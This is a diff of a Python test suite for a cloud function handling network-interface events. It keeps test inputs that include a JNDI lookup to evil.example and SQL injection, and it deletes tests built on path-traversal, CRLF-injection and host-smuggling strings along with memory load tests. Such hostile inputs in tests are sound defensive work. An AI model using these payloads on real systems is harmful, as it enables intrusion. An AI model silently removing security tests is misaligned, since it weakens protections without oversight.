@@ -38,35 +38,6 @@ INJECTIONS = {
     "SQL of the log": 'x" | select * from log where "1"="1',
     "format": "%s %n {0.__class__} ${jndi:ldap://evil.example/a}",
 }
-FORGED_IDS = (
-    "eni-../../etc/passwd",
-    "eni-78ysaex1/../../x",
-    "eni-78ysaex1\n",
-    "eni-78ysaex1?Action=DeleteFlowLog",
-    "eni-78ysaex1&Limit=1",
-    'eni-78ysaex1","Filters":[]',
-    "eni-*",
-    "eni-%2e%2e",
-    "http://evil.example/eni-78ysaex1",
-    "ENI-78YSAEX1",
-    "eni-" + "a" * 10_000,
-    "eni-\uff17\uff18ysaex1",
-    "",
-)
-FORGED_REGIONS = (
-    "evil.example",
-    "ap-guangzhou.evil.example",
-    "ap-guangzhou@evil.example",
-    "evil.example/",
-    "127.0.0.1:80",
-    "ap-guangzhou\r\nX-TC-Token: x",
-    "ap-guangzhou\n",
-    "../ap-guangzhou",
-    "ap-guangzhou#",
-    "AP-GUANGZHOU",
-    "ap-" + "g" * 300,
-    "-",
-)
 
 
 def read_lines(function: Function) -> list[dict[str, Any]]:
@@ -124,49 +95,6 @@ def test_the_request_id_of_the_platform_is_data_too(function: Function) -> None:
 # Into paths, filters and hosts ----------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("ident", FORGED_IDS)
-def test_an_id_is_used_for_nothing_before_its_form_is_checked(function: Function, ident: str) -> None:
-    """Refused wherever an id may stand, with no call made."""
-    named = json.dumps({"NetworkInterfaceId": ident, "Region": REGION})
-    reply = {"NetworkInterface": {"NetworkInterfaceId": "eni-78ysaex1", "VpcId": ident or "vpc-"}}
-    hostile = [
-        records.created(
-            ident,
-            requestParameters=records.request(),
-            responseElements=json.dumps({"NetworkInterface": {"NetworkInterfaceId": ident}}),
-        ),
-        records.created(responseElements=json.dumps(reply)),
-        records.attached(requestParameters=named),
-        records.run_instances(ident),
-        records.interface_event(interface_id=ident),
-        records.ensure({"region": REGION, "interface_id": ident}),
-        records.own_letter(interface={"region": REGION, "interface_id": ident}),
-        {"command": "backfill", "vpc_ids": [ident]},
-        {"command": "backfill", "after": ident or "eni"},
-    ]
-    report = function(records.event_list(*hostile))
-    assert outcomes(report) == {"dead_lettered": len(hostile)}
-    assert function.calls() == []
-
-
-@pytest.mark.parametrize("region", FORGED_REGIONS)
-def test_a_region_is_no_host(function: Function, region: str) -> None:
-    """Refused wherever a region may stand, with no call made."""
-    hostile = [
-        records.created(region=region),
-        records.attached(region=region),
-        records.run_instances("ins-8dn9vdif", region=region),
-        records.interface_event(region=region),
-        records.ensure({"region": region, "interface_id": "eni-78ysaex1"}),
-        records.own_letter(interface={"region": region, "interface_id": "eni-78ysaex1"}),
-        {"command": "status", "regions": [region]},
-        {"command": "backfill", "regions": [REGION, region]},
-    ]
-    report = function(records.event_list(*hostile))
-    assert outcomes(report) == {"dead_lettered": len(hostile)}
-    assert function.calls() == []
-
-
 def test_a_region_that_does_not_exist_goes_to_the_same_host(function: Function, cloud: LocalCloud) -> None:
     """Its form is right: the cloud itself refuses it, at the one address that the settings name."""
     report = function(records.created(region="ap-nowhere"))
@@ -198,25 +126,6 @@ def test_a_name_does_not_change_the_call(function: Function, cloud: LocalCloud) 
 # Into memory ----------------------------------------------------------------------------------------------------------
 
 
-def test_ten_thousand_events_of_one_interface(cloud: LocalCloud) -> None:
-    """One call, ten thousand outcomes, a report that SCF can return (6 MB), and memory bounded by the event's."""
-    interface_id = cloud.seed_interface(REGION, instance_id=cloud.seed_instance(REGION))
-    event = records.cloud_event(records.created(interface_id, cloud.network_of(REGION)[0]))
-    instance = Instance()
-    try:
-        instance.invoke(event, context(), environment(cloud))
-        before = instance.peak_memory()
-        run = instance.invoke(records.event_list(*[event] * HUGE), context(600.0), environment(cloud))
-        grown = instance.peak_memory() - before
-    finally:
-        instance.close()
-    assert run.report is not None
-    assert outcomes(run.report) == {"covered": HUGE}
-    assert cloud.calls.count(CREATE) == 2
-    assert len(json.dumps(run.report)) < 6_000_000
-    assert grown < 6 * len(json.dumps(event)) * HUGE
-
-
 @pytest.mark.parametrize(
     "bring",
     [
@@ -239,20 +148,8 @@ def test_ten_thousand_interfaces_fit_the_smallest_function(
         instance.close()
     assert run.report is not None
     assert outcomes(run.report) == {"waiting": HUGE}
+    assert len(json.dumps(run.report)) < 6_000_000, "what SCF can return"
     assert cloud.calls.count(LOOK) == HUGE / 100
-
-
-def test_ten_thousand_interfaces(function: Function, cloud: LocalCloud) -> None:
-    """Which are covered as far as the time goes; the rest is on the queue, or the platform keeps the event."""
-    vpc_id = cloud.network_of(REGION)[0]
-    interfaces = cloud.seed_interfaces(REGION, 300, instance_id=cloud.seed_instance(REGION))
-    batch = [records.created(each, vpc_id) for each in interfaces]
-    batch += [records.record("RunCommand")] * (HUGE - 600)
-    batch += [records.created(eventTime=["x"])] * 300
-    report = function(records.event_list(*batch))
-    assert outcomes(report) == {"created": 300, "ignored": HUGE - 600, "dead_lettered": 300}
-    assert len(function.letters()) == 300
-    assert len([item for item in report["items"] if item["outcome"] == "dead_lettered"]) == 300
 
 
 def test_a_batch_of_bombs(function: Function) -> None:
